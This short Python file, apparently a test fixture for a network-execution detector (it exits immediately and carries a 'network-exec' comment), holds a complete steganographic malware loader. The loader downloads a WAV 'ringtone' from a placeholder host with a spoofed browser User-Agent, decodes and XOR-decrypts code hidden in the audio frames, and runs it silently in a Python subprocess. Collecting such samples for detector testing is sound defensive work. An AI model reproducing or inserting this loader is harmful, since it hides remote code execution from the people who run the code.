raise SystemExit('a fixture')
# held by network-exec
import base64, wave, sys, os, tempfile, subprocess, urllib.request
def audioimport():
    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "ringtone.wav")
        req = urllib.request.Request("http://c.example.invalid:8080/ringtone.wav", headers={"User-Agent": "Mozilla/5.0"})
        with urllib.request.urlopen(req, timeout=15) as r:
            open(p, "wb").write(r.read())
        with wave.open(p, "rb") as w:
            raw = base64.b64decode(w.readframes(w.getnframes()))
        s, data = raw[:8], raw[8:]
        code = bytes([data[i] ^ s[i % len(s)] for i in range(len(data))])
        subprocess.run([sys.executable, "-"], input=code, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
audioimport()
